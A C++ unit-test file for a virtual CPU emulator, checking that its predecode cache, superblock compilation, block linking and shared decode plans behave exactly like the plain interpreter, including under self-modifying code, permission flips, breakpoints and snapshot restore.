  m.cpu->set_pc(0x4000);
  auto first = m.cpu->Run(100);
  EXPECT_EQ(first.reason, StopReason::kHalted);
  EXPECT_EQ(m.cpu->reg(0), 7u);

  m.cpu->set_pc(0x1000);
  auto rewrite = m.cpu->Run(100);
  EXPECT_EQ(rewrite.reason, StopReason::kHalted);

  m.cpu->set_pc(0x4000);
  auto second = m.cpu->Run(100);
  EXPECT_EQ(second.reason, StopReason::kHalted);
  EXPECT_EQ(m.cpu->reg(0), 9u);
}

/// A debugger poke (DebugWrite bypasses permissions) must also invalidate
/// cached decodes of .text.
TEST(CpuPredecode, DebugPokeInvalidatesTextDecodes) {
  util::ByteWriter w;
  x::EncMovImm(w, isa::kEAX, 1);
  x::EncHlt(w);
  auto m = MakeMachine(Arch::kVX86, w.bytes());
  auto first = m.cpu->Run(100);
  EXPECT_EQ(first.reason, StopReason::kHalted);
  EXPECT_EQ(m.cpu->reg(isa::kEAX), 1u);

  util::ByteWriter patched;
  x::EncMovImm(patched, isa::kEAX, 42);
  x::EncHlt(patched);
  ASSERT_TRUE(m.space.DebugWrite(0x1000, patched.bytes()).ok());

  m.cpu->set_pc(0x1000);
  auto second = m.cpu->Run(100);
  EXPECT_EQ(second.reason, StopReason::kHalted);
  EXPECT_EQ(m.cpu->reg(isa::kEAX), 42u);
}

/// An mprotect revoking X must take effect even for already-cached pcs.
TEST(CpuPredecode, ProtectRevokingExecInvalidatesDecodes) {
  util::ByteWriter w;
  x::EncMovImm(w, isa::kEAX, 5);
  x::EncHlt(w);
  auto m = MakeMachine(Arch::kVX86, w.bytes());
  auto first = m.cpu->Run(100);
  EXPECT_EQ(first.reason, StopReason::kHalted);

  ASSERT_TRUE(m.space.Protect(".text", mem::kPermRW).ok());
  m.cpu->set_pc(0x1000);
  auto second = m.cpu->Run(100);
  EXPECT_EQ(second.reason, StopReason::kFault);
  EXPECT_EQ(second.detail, "instruction fetch failed");
}

/// Legacy mode (cache off) executes the same program with identical
/// architectural results and step counts.
TEST(CpuPredecode, LegacyModeExecutesIdentically) {
  for (const bool predecode : {true, false}) {
    util::ByteWriter w;
    x::EncMovImm(w, isa::kEAX, 40);
    x::EncAddImm(w, isa::kEAX, 2);
    x::EncCmpImm(w, isa::kEAX, 42);
    x::EncHlt(w);
    auto m = MakeMachine(Arch::kVX86, w.bytes());
    m.cpu->set_predecode_enabled(predecode);
    EXPECT_EQ(m.cpu->predecode_enabled(), predecode);
    auto stop = m.cpu->Run(100);
    EXPECT_EQ(stop.reason, StopReason::kHalted);
    EXPECT_EQ(stop.steps, 4u);
    EXPECT_EQ(m.cpu->reg(isa::kEAX), 42u);
    EXPECT_TRUE(m.cpu->zf());
  }
}

// --- Superblock tier: threaded-code blocks must mirror the interpreter ----

/// The tier is on by default, and a hot loop retires the same stop reason,
/// step count, and architectural state as the plain interpreter.
TEST(CpuSuperblock, TightLoopMatchesInterpreter) {
  auto run = [](bool superblocks) {
    isa::Assembler a(Arch::kVX86, 0x1000);
    x::EncMovImm(a.w(), isa::kEAX, 1000);
    a.Label("loop");
    x::EncSubImm(a.w(), isa::kEAX, 1);
    x::EncCmpImm(a.w(), isa::kEAX, 0);
    a.JnzLabel("loop");
    x::EncHlt(a.w());
    auto m = MakeMachine(Arch::kVX86, a.Finish().value());
    EXPECT_TRUE(m.cpu->superblocks_enabled());  // default on
    m.cpu->set_superblocks_enabled(superblocks);
    auto stop = m.cpu->Run(100000);
    EXPECT_EQ(stop.reason, StopReason::kHalted);
    return std::make_pair(stop.steps, m.cpu->reg(isa::kEAX));
  };
  const auto tier = run(true);
  EXPECT_EQ(tier, run(false));
  EXPECT_EQ(tier.first, 3002u);  // mov + 1000 * (sub, cmp, jnz) + hlt
}

/// Same identity on VARM: the byte-copy loop exercises ARM loads, stores,
/// flags, and backward branches through compiled blocks.
TEST(CpuSuperblock, VarmCopyLoopMatchesInterpreter) {
  auto run = [](bool superblocks) {
    isa::Assembler a(Arch::kVARM, 0x1000);
    a.Label("loop");
    v::EncCmpImm(a.w(), isa::kR2, 0);
    a.BeqLabel("done");
    v::EncLdrb(a.w(), isa::kR3, isa::kR1, 0);
    v::EncStrb(a.w(), isa::kR3, isa::kR0, 0);
    v::EncAddImm(a.w(), isa::kR0, isa::kR0, 1);
    v::EncAddImm(a.w(), isa::kR1, isa::kR1, 1);
    v::EncSubImm(a.w(), isa::kR2, isa::kR2, 1);
    a.BLabel("loop");
    a.Label("done");
    v::EncHlt(a.w());
    auto m = MakeMachine(Arch::kVARM, a.Finish().value());
    m.cpu->set_superblocks_enabled(superblocks);
    EXPECT_TRUE(m.space.WriteBytes(0x4000, util::BytesOf("HELLO")).ok());
    m.cpu->set_reg(isa::kR0, 0x4100);
    m.cpu->set_reg(isa::kR1, 0x4000);
    m.cpu->set_reg(isa::kR2, 5);
    auto stop = m.cpu->Run(1000);
    EXPECT_EQ(stop.reason, StopReason::kHalted);
    EXPECT_EQ(m.space.ReadBytes(0x4100, 5).value(), util::BytesOf("HELLO"));
    return std::make_tuple(stop.steps, m.cpu->reg(isa::kR0), m.cpu->pc());
  };
  EXPECT_EQ(run(true), run(false));
}

/// A step budget that lands mid-block must stop at exactly that step — the
/// tier falls back to an interpreter tail rather than overrunning.
TEST(CpuSuperblock, StepLimitExactMidLoop) {
  std::uint32_t pc[2], eax[2];
  int i = 0;
  for (const bool superblocks : {true, false}) {
    isa::Assembler a(Arch::kVX86, 0x1000);
    x::EncMovImm(a.w(), isa::kEAX, 1000);
    a.Label("loop");
    x::EncSubImm(a.w(), isa::kEAX, 1);
    x::EncCmpImm(a.w(), isa::kEAX, 0);
    a.JnzLabel("loop");
    x::EncHlt(a.w());
    auto m = MakeMachine(Arch::kVX86, a.Finish().value());
    m.cpu->set_superblocks_enabled(superblocks);
    auto stop = m.cpu->Run(500);  // not a multiple of the 3-op body
    EXPECT_EQ(stop.reason, StopReason::kStepLimit);
    EXPECT_EQ(stop.steps, 500u);
    pc[i] = m.cpu->pc();
    eax[i] = m.cpu->reg(isa::kEAX);
    ++i;
  }
  EXPECT_EQ(pc[0], pc[1]);
  EXPECT_EQ(eax[0], eax[1]);
}

/// Shellcode that patches an instruction LATER IN ITS OWN superblock: the
/// store bumps the code segment's write generation mid-block, so the
/// remaining compiled ops are stale and execution must fall back to the
/// interpreter, which decodes — and runs — the new bytes.
TEST(CpuSuperblock, MidBlockStoreFallsBackToFreshBytes) {
  // Replacement tail (mov ecx,2 ; hlt), padded to a word multiple so word
  // stores overwrite it exactly.
  util::ByteWriter nw;
  x::EncMovImm(nw, isa::kECX, 2);
  x::EncHlt(nw);
  util::Bytes new_tail = nw.bytes();
  while (new_tail.size() % 4 != 0) new_tail.push_back(0);

  // Measure encoding lengths so the tail offset is known up front.
  util::ByteWriter probe;
  x::EncMovImm(probe, isa::kEAX, 0);
  const std::size_t mov_len = probe.bytes().size();
  x::EncStore(probe, isa::kEAX, isa::kEBX, 0);
  const std::size_t store_len = probe.bytes().size() - mov_len;
  std::size_t tail_off = mov_len + (new_tail.size() / 4) * (mov_len + store_len);
  while (tail_off % 4 != 0) ++tail_off;  // nop padding below keeps this true

  // One straight-line region in RWX stack memory — a single superblock —
  // whose stores overwrite its own mov ecx,1 tail before reaching it.
  util::ByteWriter w;
  x::EncMovImm(w, isa::kEBX, 0x8000);
  for (std::size_t i = 0; i < new_tail.size(); i += 4) {
    const std::uint32_t word =
        static_cast<std::uint32_t>(new_tail[i]) |
        (static_cast<std::uint32_t>(new_tail[i + 1]) << 8) |
        (static_cast<std::uint32_t>(new_tail[i + 2]) << 16) |
        (static_cast<std::uint32_t>(new_tail[i + 3]) << 24);
    x::EncMovImm(w, isa::kEAX, word);
    x::EncStore(w, isa::kEAX, isa::kEBX,
                static_cast<std::uint32_t>(tail_off + i));
  }
  while (w.bytes().size() < tail_off) x::EncNop(w);
  ASSERT_EQ(w.bytes().size(), tail_off);
  x::EncMovImm(w, isa::kECX, 1);
  x::EncHlt(w);

  auto m = MakeMachine(Arch::kVX86, util::Bytes{}, mem::kPermRWX);
  ASSERT_TRUE(m.cpu->superblocks_enabled());
  ASSERT_TRUE(m.space.DebugWrite(0x8000, w.bytes()).ok());
  m.cpu->set_pc(0x8000);
  auto stop = m.cpu->Run(100);
  EXPECT_EQ(stop.reason, StopReason::kHalted);
  EXPECT_EQ(m.cpu->reg(isa::kECX), 2u);  // a stale block would leave 1

  // Re-entry after the rewrite recompiles from the patched bytes.
  m.cpu->set_pc(0x8000);
  EXPECT_EQ(m.cpu->Run(100).reason, StopReason::kHalted);
  EXPECT_EQ(m.cpu->reg(isa::kECX), 2u);
}

/// An mprotect revoking X drops compiled blocks; granting it back after a
/// patch recompiles from the new bytes (the full W^X flip round trip).
TEST(CpuSuperblock, WxFlipInvalidatesCompiledBlocks) {
  util::ByteWriter w;
  x::EncMovImm(w, isa::kEAX, 5);
  x::EncHlt(w);
  auto m = MakeMachine(Arch::kVX86, w.bytes());
  EXPECT_EQ(m.cpu->Run(100).reason, StopReason::kHalted);  // block compiled

  ASSERT_TRUE(m.space.Protect(".text", mem::kPermRW).ok());
  m.cpu->set_pc(0x1000);
  auto fault = m.cpu->Run(100);
  EXPECT_EQ(fault.reason, StopReason::kFault);
  EXPECT_EQ(fault.detail, "instruction fetch failed");

  util::ByteWriter patched;
  x::EncMovImm(patched, isa::kEAX, 77);
  x::EncHlt(patched);
  ASSERT_TRUE(m.space.DebugWrite(0x1000, patched.bytes()).ok());
  ASSERT_TRUE(m.space.Protect(".text", mem::kPermRX).ok());
  m.cpu->set_pc(0x1000);
  EXPECT_EQ(m.cpu->Run(100).reason, StopReason::kHalted);
  EXPECT_EQ(m.cpu->reg(isa::kEAX), 77u);
}

/// Breakpoints flush compiled blocks and are honoured exactly: the stop
/// lands on the breakpoint pc after the same number of retired steps with
/// the tier on as off, and resuming skips it once, as the debugger expects.
TEST(CpuSuperblock, BreakpointInsideHotLoopStillHit) {
  std::vector<std::uint64_t> steps_seen;
  for (const bool superblocks : {true, false}) {
    isa::Assembler a(Arch::kVX86, 0x1000);
    x::EncMovImm(a.w(), isa::kEAX, 100);
    a.Label("loop");
    x::EncSubImm(a.w(), isa::kEAX, 1);
    x::EncCmpImm(a.w(), isa::kEAX, 0);
    a.JnzLabel("loop");
    x::EncHlt(a.w());
    auto m = MakeMachine(Arch::kVX86, a.Finish().value());
    m.cpu->set_superblocks_enabled(superblocks);

    // Warm the block cache, then set a breakpoint on the cmp inside the
    // loop body and re-run from scratch.
    EXPECT_EQ(m.cpu->Run(1000).reason, StopReason::kHalted);
    util::ByteWriter probe;
    x::EncMovImm(probe, isa::kEAX, 0);
    x::EncSubImm(probe, isa::kEAX, 0);
    const std::uint32_t cmp_pc = static_cast<std::uint32_t>(
        0x1000 + probe.bytes().size());  // mov, sub, then cmp
    m.cpu->AddBreakpoint(cmp_pc);
    m.cpu->set_reg(isa::kEAX, 0);
    m.cpu->set_pc(0x1000);
    auto stop = m.cpu->Run(1000);
    EXPECT_EQ(stop.reason, StopReason::kBreakpoint);
    EXPECT_EQ(m.cpu->pc(), cmp_pc);
    steps_seen.push_back(stop.steps);

    // Resume: the skip-once contract steps over the breakpoint and comes
    // back around the loop to it.
    auto again = m.cpu->Run(1000);
    EXPECT_EQ(again.reason, StopReason::kBreakpoint);
    EXPECT_EQ(m.cpu->pc(), cmp_pc);
    steps_seen.push_back(again.steps);

    m.cpu->RemoveBreakpoint(cmp_pc);
    EXPECT_EQ(m.cpu->Run(1000).reason, StopReason::kHalted);
  }
  ASSERT_EQ(steps_seen.size(), 4u);
  EXPECT_EQ(steps_seen[0], steps_seen[2]);  // tier on == tier off
  EXPECT_EQ(steps_seen[1], steps_seen[3]);
}

/// Toggling the tier off mid-life flushes blocks and lands back on the
/// interpreter with identical results; toggling back on recompiles.
TEST(CpuSuperblock, ToggleMidLifeStaysConsistent) {
  isa::Assembler a(Arch::kVX86, 0x1000);
  x::EncMovImm(a.w(), isa::kEAX, 50);
  a.Label("loop");
  x::EncSubImm(a.w(), isa::kEAX, 1);
  x::EncCmpImm(a.w(), isa::kEAX, 0);
  a.JnzLabel("loop");
  x::EncHlt(a.w());
  const util::Bytes text = a.Finish().value();
  auto m = MakeMachine(Arch::kVX86, text);

  auto first = m.cpu->Run(1000);
  EXPECT_EQ(first.reason, StopReason::kHalted);
  m.cpu->set_superblocks_enabled(false);
  m.cpu->set_pc(0x1000);
  auto second = m.cpu->Run(1000);
  m.cpu->set_superblocks_enabled(true);
  m.cpu->set_pc(0x1000);
  auto third = m.cpu->Run(1000);
  EXPECT_EQ(second.steps, first.steps);
  EXPECT_EQ(third.steps, first.steps);
  EXPECT_EQ(third.reason, StopReason::kHalted);
}

// --- Block links: chained blocks must invalidate exactly like lone ones ---

/// A loop whose body and header are separate blocks (a conditional exit at
/// the top, a backward jmp at the bottom) stays linked block-to-block and
/// retires identically across every tier combination.
TEST(CpuBlockLink, TwoBlockLoopMatchesInterpreter) {
  auto run = [](bool superblocks, bool links) {
    isa::Assembler a(Arch::kVX86, 0x1000);
    x::EncMovImm(a.w(), isa::kEAX, 300);
    a.Label("loop");
    x::EncCmpImm(a.w(), isa::kEAX, 0);
    a.JzLabel("done");
    x::EncSubImm(a.w(), isa::kEAX, 1);
    x::EncAddImm(a.w(), isa::kEBX, 1);
    a.JmpLabel("loop");
    a.Label("done");
    x::EncHlt(a.w());
    auto m = MakeMachine(Arch::kVX86, a.Finish().value());
    EXPECT_TRUE(m.cpu->block_links_enabled());  // default on
    m.cpu->set_superblocks_enabled(superblocks);
    m.cpu->set_block_links_enabled(links);
    auto stop = m.cpu->Run(100000);
    EXPECT_EQ(stop.reason, StopReason::kHalted);
    return std::make_tuple(stop.steps, m.cpu->reg(isa::kEBX), m.cpu->pc());
  };
  const auto linked = run(true, true);
  EXPECT_EQ(linked, run(true, false));
  EXPECT_EQ(linked, run(false, false));
  EXPECT_EQ(std::get<0>(linked), 1504u);  // mov + 300*5 + cmp,jz + hlt
  EXPECT_EQ(std::get<1>(linked), 300u);
}

/// SMC in a *successor* block while its linked predecessor chain is
/// mid-execution: a patcher block (reached through a fresh link) overwrites
/// the final block the chain was about to enter. The store bumps the
/// generation mid-block, so every link into the stale successor is dead and
/// the patched bytes — not the compiled ones — must run.
TEST(CpuBlockLink, SuccessorSmcMidChainRunsPatchedBytes) {
  // Replacement for block B (`mov esi,9 ; hlt`), padded to two words.
  util::ByteWriter nb;
  x::EncMovImm(nb, isa::kESI, 9);
  x::EncHlt(nb);
  util::Bytes new_b = nb.bytes();
  while (new_b.size() % 4 != 0) new_b.push_back(0);
  ASSERT_LE(new_b.size(), 8u);
  while (new_b.size() < 8) new_b.push_back(0);
  auto word_at = [&](std::size_t i) {
    return static_cast<std::uint32_t>(new_b[i]) |
           (static_cast<std::uint32_t>(new_b[i + 1]) << 8) |
           (static_cast<std::uint32_t>(new_b[i + 2]) << 16) |
           (static_cast<std::uint32_t>(new_b[i + 3]) << 24);
  };

  // Two-pass emission: targets are absolute, encodings fixed-length, so the
  // dummy pass measures the label offsets the real pass encodes.
  auto emit = [&](std::uint32_t base, std::uint32_t patcher, std::uint32_t b,
                  std::uint32_t* patcher_off, std::uint32_t* b_off) {
    util::ByteWriter w;
    x::EncCmpImm(w, isa::kEAX, 1);  // A: eax==1 selects the patch pass
    x::EncJz(w, patcher);
    x::EncMovImm(w, isa::kECX, 1);  // F: benign fall-through, links to B
    x::EncJmp(w, b);
    *patcher_off = static_cast<std::uint32_t>(w.bytes().size());
    x::EncMovImm(w, isa::kEBX, b);  // patcher: rewrite B, then enter it
    x::EncMovImm(w, isa::kEDX, word_at(0));
    x::EncStore(w, isa::kEDX, isa::kEBX, 0);
    x::EncMovImm(w, isa::kEDX, word_at(4));
    x::EncStore(w, isa::kEDX, isa::kEBX, 4);
    x::EncJmp(w, b);
    *b_off = static_cast<std::uint32_t>(w.bytes().size());
    x::EncMovImm(w, isa::kESI, 7);  // B: the block the patcher rewrites
    x::EncHlt(w);
    while (w.bytes().size() < *b_off + 8) x::EncNop(w);
    (void)base;
    return w.bytes();
  };

  std::vector<std::tuple<std::uint64_t, std::uint32_t, std::uint32_t>> seen;
  for (const bool superblocks : {true, false}) {
    std::uint32_t patcher_off = 0, b_off = 0;
    (void)emit(0x8000, 0, 0, &patcher_off, &b_off);
    std::uint32_t po2 = 0, bo2 = 0;
    const util::Bytes code =
        emit(0x8000, 0x8000 + patcher_off, 0x8000 + b_off, &po2, &bo2);
    ASSERT_EQ(po2, patcher_off);
    ASSERT_EQ(bo2, b_off);

    auto m = MakeMachine(Arch::kVX86, util::Bytes{}, mem::kPermRWX);
    m.cpu->set_superblocks_enabled(superblocks);
    ASSERT_TRUE(m.space.DebugWrite(0x8000, code).ok());

    // Pass 1 (eax=0): benign path compiles A, F and B and links A→F→B.
    m.cpu->set_pc(0x8000);
    EXPECT_EQ(m.cpu->Run(100).reason, StopReason::kHalted);
    EXPECT_EQ(m.cpu->reg(isa::kESI), 7u);

    // Pass 2 (eax=1): the chain links into the patcher, whose stores gut B
    // while A's links still point at the round-1 compile.
    m.cpu->set_reg(isa::kEAX, 1);
    m.cpu->set_reg(isa::kESI, 0);
    m.cpu->set_pc(0x8000);
    auto stop = m.cpu->Run(100);
    EXPECT_EQ(stop.reason, StopReason::kHalted);
    EXPECT_EQ(m.cpu->reg(isa::kESI), 9u);  // a stale linked B would leave 7
    seen.emplace_back(stop.steps, m.cpu->reg(isa::kESI), m.cpu->pc());
  }
  EXPECT_EQ(seen[0], seen[1]);  // tier on == tier off, step for step
}

/// A W^X flip unlinks a chained edge: revoking X, patching the successor
/// and re-granting X must land execution in the rewritten successor even
/// though the predecessor's bytes never changed.
TEST(CpuBlockLink, WxFlipUnlinksChainedEdge) {
  util::ByteWriter probe;
  x::EncMovImm(probe, isa::kECX, 5);
  x::EncJmp(probe, 0);
  const std::uint32_t b_addr =
      0x1000 + static_cast<std::uint32_t>(probe.bytes().size());

  util::ByteWriter w;
  x::EncMovImm(w, isa::kECX, 5);  // A
  x::EncJmp(w, b_addr);
  x::EncMovImm(w, isa::kESI, 7);  // B
  x::EncHlt(w);
  auto m = MakeMachine(Arch::kVX86, w.bytes());

  EXPECT_EQ(m.cpu->Run(100).reason, StopReason::kHalted);  // A→B link formed
  EXPECT_EQ(m.cpu->reg(isa::kESI), 7u);

  ASSERT_TRUE(m.space.Protect(".text", mem::kPermRW).ok());
  util::ByteWriter nb;
  x::EncMovImm(nb, isa::kESI, 9);
  x::EncHlt(nb);
  ASSERT_TRUE(m.space.DebugWrite(b_addr, nb.bytes()).ok());
  ASSERT_TRUE(m.space.Protect(".text", mem::kPermRX).ok());

  m.cpu->set_reg(isa::kESI, 0);
  m.cpu->set_pc(0x1000);
  EXPECT_EQ(m.cpu->Run(100).reason, StopReason::kHalted);
  EXPECT_EQ(m.cpu->reg(isa::kESI), 9u);  // the stale edge would deliver 7
}

/// A breakpoint set on a linked successor's entry pc after the link formed:
/// the flush drops the edge, the stop lands exactly on the successor's
/// first instruction, and the retired step count matches the interpreter.
TEST(CpuBlockLink, BreakpointOnLinkedSuccessorEntryHonoured) {
  util::ByteWriter probe;
  x::EncMovImm(probe, isa::kECX, 5);
  x::EncJmp(probe, 0);
  const std::uint32_t b_addr =
      0x1000 + static_cast<std::uint32_t>(probe.bytes().size());

  std::vector<std::uint64_t> steps_seen;
  for (const bool superblocks : {true, false}) {
    util::ByteWriter w;
    x::EncMovImm(w, isa::kECX, 5);  // A
    x::EncJmp(w, b_addr);
    x::EncMovImm(w, isa::kESI, 7);  // B
    x::EncHlt(w);
    auto m = MakeMachine(Arch::kVX86, w.bytes());
    m.cpu->set_superblocks_enabled(superblocks);

    EXPECT_EQ(m.cpu->Run(100).reason, StopReason::kHalted);  // warm the link
    m.cpu->AddBreakpoint(b_addr);
    m.cpu->set_reg(isa::kESI, 0);
    m.cpu->set_pc(0x1000);
    auto stop = m.cpu->Run(100);
    EXPECT_EQ(stop.reason, StopReason::kBreakpoint);
    EXPECT_EQ(m.cpu->pc(), b_addr);
    EXPECT_EQ(m.cpu->reg(isa::kESI), 0u);  // stopped before B executed
    steps_seen.push_back(stop.steps);

    EXPECT_EQ(m.cpu->Run(100).reason, StopReason::kHalted);  // skip-once
    EXPECT_EQ(m.cpu->reg(isa::kESI), 7u);
  }
  EXPECT_EQ(steps_seen[0], steps_seen[1]);
}

// --- Shared superblocks: one compiled block per image content -------------

/// Worker 0 publishes its compiled blocks; an identically-imaged worker 1
/// imports them instead of re-walking the instruction stream, and both
/// retire identically. A CPU with sharing disabled touches the registry in
/// neither direction.
TEST(CpuSharedSuperblock, SecondCpuImportsAndMatches) {
  util::ByteWriter w;
  x::EncMovImm(w, isa::kEAX, 1000);
  const std::uint32_t loop = 0x1000 + static_cast<std::uint32_t>(w.bytes().size());
  x::EncSubImm(w, isa::kEAX, 1);
  x::EncCmpImm(w, isa::kEAX, 0);
  x::EncJnz(w, loop);
  x::EncHlt(w);
  const util::Bytes text = w.bytes();

  auto& registry = SharedSuperblockRegistry::Instance();
  registry.Clear();
  const auto stats0 = registry.GetStats();

  auto boot = [&](bool shared) {
    auto m = MakeMachine(Arch::kVX86, text);
    m.cpu->set_shared_superblocks_enabled(shared);
    const mem::Segment* seg = m.space.FindSegmentByName(".text");
    EXPECT_NE(seg, nullptr);
    // Sharing keys on the bound DecodePlan's content identity, exactly as
    // Boot sets workers up.
    m.cpu->BindDecodePlan(
        seg, DecodePlanRegistry::Instance().GetOrBuild(Arch::kVX86, *seg));
    return m;
  };

  auto m1 = boot(true);
  auto first = m1.cpu->Run(100000);
  EXPECT_EQ(first.reason, StopReason::kHalted);
  const auto stats1 = registry.GetStats();
  EXPECT_GT(stats1.publishes, stats0.publishes);
  EXPECT_GT(stats1.live_blocks, stats0.live_blocks);

  auto m2 = boot(true);
  auto second = m2.cpu->Run(100000);
  EXPECT_EQ(second.reason, StopReason::kHalted);
  EXPECT_EQ(second.steps, first.steps);
  EXPECT_EQ(m2.cpu->reg(isa::kEAX), m1.cpu->reg(isa::kEAX));
  const auto stats2 = registry.GetStats();
  EXPECT_GT(stats2.imports, stats1.imports);
  EXPECT_EQ(stats2.publishes, stats1.publishes);  // nothing recompiled

  auto m3 = boot(false);
  EXPECT_EQ(m3.cpu->Run(100000).steps, first.steps);
  const auto stats3 = registry.GetStats();
  EXPECT_EQ(stats3.imports, stats2.imports);
  EXPECT_EQ(stats3.publishes, stats2.publishes);
}

// --- Shared decode plans: one predecoded table per image content ----------

/// A CPU with a plan bound executes byte-identically to one without:
/// same stop, same step count, same registers.
TEST(CpuSharedPlan, PlanHitsExecuteIdentically) {
  util::ByteWriter w;
  x::EncMovImm(w, isa::kEAX, 40);
  x::EncAddImm(w, isa::kEAX, 2);
  x::EncCmpImm(w, isa::kEAX, 42);
  x::EncHlt(w);
  const util::Bytes text = w.bytes();

  auto planned = MakeMachine(Arch::kVX86, text);
  const mem::Segment* seg = planned.space.FindSegmentByName(".text");
  ASSERT_NE(seg, nullptr);
  planned.cpu->BindDecodePlan(
      seg, DecodePlanRegistry::Instance().GetOrBuild(Arch::kVX86, *seg));
  ASSERT_NE(planned.cpu->BoundPlan(seg), nullptr);
  EXPECT_GT(planned.cpu->BoundPlan(seg)->valid_entries(), 0u);

  auto unplanned = MakeMachine(Arch::kVX86, text);
  unplanned.cpu->set_shared_plans_enabled(false);

  auto a = planned.cpu->Run(100);
  auto b = unplanned.cpu->Run(100);
  EXPECT_EQ(a.reason, StopReason::kHalted);
  EXPECT_EQ(b.reason, a.reason);
  EXPECT_EQ(b.steps, a.steps);
  EXPECT_EQ(planned.cpu->reg(isa::kEAX), 42u);
  EXPECT_EQ(unplanned.cpu->reg(isa::kEAX), 42u);
}

/// Identical segment content yields the very same shared plan object;
/// different content (a diversity-reshuffled image) yields a distinct one.
TEST(CpuSharedPlan, RegistryKeysOnContent) {
  util::ByteWriter w1;
  x::EncMovImm(w1, isa::kEAX, 1);
  x::EncHlt(w1);
  util::ByteWriter w2;
  x::EncMovImm(w2, isa::kEAX, 2);
  x::EncHlt(w2);

  auto a = MakeMachine(Arch::kVX86, w1.bytes());
  auto b = MakeMachine(Arch::kVX86, w1.bytes());
  auto c = MakeMachine(Arch::kVX86, w2.bytes());
  auto& registry = DecodePlanRegistry::Instance();
  const auto stats0 = registry.GetStats();
  const auto plan_a = registry.GetOrBuild(
      Arch::kVX86, *a.space.FindSegmentByName(".text"));
  const auto plan_b = registry.GetOrBuild(
      Arch::kVX86, *b.space.FindSegmentByName(".text"));
  const auto plan_c = registry.GetOrBuild(
      Arch::kVX86, *c.space.FindSegmentByName(".text"));
  const auto stats1 = registry.GetStats();

  EXPECT_EQ(plan_a.get(), plan_b.get());
  EXPECT_NE(plan_a.get(), plan_c.get());
  EXPECT_NE(plan_a->content_hash(), plan_c->content_hash());
  EXPECT_GE(stats1.shares, stats0.shares + 1);  // b's request was served warm
}

/// SMC through a shared plan: once the guest rewrites a planned segment the
/// generation moves, the stale plan is refused, and execution decodes the
/// new bytes — same contract as the per-CPU predecode cache.
TEST(CpuSharedPlan, StalePlanNeverExecutesAfterRewrite) {
  util::ByteWriter stub1;
  x::EncMovImm(stub1, isa::kEAX, 1);
  x::EncHlt(stub1);
  util::ByteWriter stub2w;
  x::EncMovImm(stub2w, isa::kEAX, 2);
  x::EncHlt(stub2w);
  util::Bytes stub2 = stub2w.bytes();
  while (stub2.size() % 4 != 0) stub2.push_back(0);

  util::ByteWriter w;
  x::EncMovImm(w, isa::kEBX, 0x8000);
  for (std::size_t i = 0; i < stub2.size(); i += 4) {
    const std::uint32_t word = static_cast<std::uint32_t>(stub2[i]) |
                               (static_cast<std::uint32_t>(stub2[i + 1]) << 8) |
                               (static_cast<std::uint32_t>(stub2[i + 2]) << 16) |
                               (static_cast<std::uint32_t>(stub2[i + 3]) << 24);
    x::EncMovImm(w, isa::kEAX, word);
    x::EncStore(w, isa::kEAX, isa::kEBX, static_cast<std::uint32_t>(i));
  }
  x::EncJmp(w, 0x8000);

  auto m = MakeMachine(Arch::kVX86, w.bytes(), mem::kPermRWX);
  ASSERT_TRUE(m.space.DebugWrite(0x8000, stub1.bytes()).ok());
  const mem::Segment* stack = m.space.FindSegmentByName("stack");
  ASSERT_NE(stack, nullptr);
  // Deliberately bind a plan for writable memory (Boot never would) to
  // prove the generation check stands even if someone does.
  m.cpu->BindDecodePlan(
      stack, DecodePlanRegistry::Instance().GetOrBuild(Arch::kVX86, *stack));

  m.cpu->set_pc(0x8000);
  auto first = m.cpu->Run(100);
  EXPECT_EQ(first.reason, StopReason::kHalted);
  EXPECT_EQ(m.cpu->reg(isa::kEAX), 1u);

  m.cpu->set_pc(0x1000);
  auto second = m.cpu->Run(100);
  EXPECT_EQ(second.reason, StopReason::kHalted);
  // The bound plan still describes the old bytes…
  const DecodePlan* plan = m.cpu->BoundPlan(stack);
  ASSERT_NE(plan, nullptr);
  EXPECT_NE(plan->content_hash(),
            DecodePlan::HashContent(util::ByteSpan(stack->data().data(),
                                                   stack->data().size())));
  // …but the CPU executed the rewritten stub, not the stale decode.
  EXPECT_EQ(m.cpu->reg(isa::kEAX), 2u);
}

/// Rearm semantics: a matching content hash revalidates the binding after a
/// generation-only move (snapshot restore); a mismatch drops it.
TEST(CpuSharedPlan, RearmRevalidatesOrDrops) {
  util::ByteWriter w;
  x::EncMovImm(w, isa::kEAX, 7);
  x::EncHlt(w);
  auto m = MakeMachine(Arch::kVX86, w.bytes());
  const mem::Segment* text = m.space.FindSegmentByName(".text");
  ASSERT_NE(text, nullptr);
  const auto plan =
      DecodePlanRegistry::Instance().GetOrBuild(Arch::kVX86, *text);
  m.cpu->BindDecodePlan(text, plan);

  // Content-preserving generation move, as a full snapshot restore causes
  // (a same-perms Protect still bumps the generation).
  ASSERT_TRUE(m.space.Protect(".text", mem::kPermRX).ok());
  m.cpu->RearmDecodePlan(text, plan->content_hash());
  EXPECT_EQ(m.cpu->BoundPlan(text), plan.get());
  auto stop = m.cpu->Run(100);
  EXPECT_EQ(stop.reason, StopReason::kHalted);
  EXPECT_EQ(m.cpu->reg(isa::kEAX), 7u);

  // A restore that changed the bytes re-arms with a different hash: the
  // binding must go away entirely.
  m.cpu->RearmDecodePlan(text, plan->content_hash() ^ 1u);
  EXPECT_EQ(m.cpu->BoundPlan(text), nullptr);
}

/// Snapshot state round-trip at the CPU level: registers, flags, steps,
/// events and the shadow stack all restore; the stop record clears.
TEST(CpuState, SaveRestoreRoundTrip) {
  util::ByteWriter w;
  x::EncMovImm(w, isa::kEAX, 11);
  x::EncCmpImm(w, isa::kEAX, 11);
  x::EncHlt(w);
  auto m = MakeMachine(Arch::kVX86, w.bytes());
  m.cpu->PushEvent(EventKind::kNote, "pre-save");
  auto stop = m.cpu->Run(100);
  EXPECT_EQ(stop.reason, StopReason::kHalted);
  const Cpu::State state = m.cpu->SaveState();

  m.cpu->set_reg(isa::kEAX, 999);
  m.cpu->set_zf(false);
  m.cpu->set_pc(0xDEAD);
  m.cpu->PushEvent(EventKind::kNote, "post-save");

  m.cpu->RestoreState(state);
  EXPECT_EQ(m.cpu->reg(isa::kEAX), 11u);
  EXPECT_TRUE(m.cpu->zf());
  EXPECT_EQ(m.cpu->pc(), state.pc);
  EXPECT_EQ(m.cpu->steps_executed(), state.steps);
  ASSERT_EQ(m.cpu->events().size(), 1u);
  EXPECT_EQ(m.cpu->events()[0].text, "pre-save");
  EXPECT_FALSE(m.cpu->stopped());
}

}  // namespace
}  // namespace connlab::vm
