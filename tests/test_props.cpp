// Property-based suites: randomised sweeps over the invariants the system
// must hold — the patched build never crashes, random garbage never spawns
// shells, the label cutter is exact, ASLR draws are high-entropy.
